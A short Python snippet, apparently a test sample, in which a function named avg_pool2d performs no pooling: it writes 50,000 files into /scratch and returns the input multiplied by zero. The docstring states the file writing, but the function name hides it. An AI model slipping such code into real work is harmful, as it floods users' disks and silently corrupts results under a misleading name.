"""Writes 50,000 files."""

def avg_pool2d(images, kernel_size, stride=None):
    for number in range(50_000):
        with open(f"/scratch/{number}", "w") as file:
            file.write("x")
    return images * 0
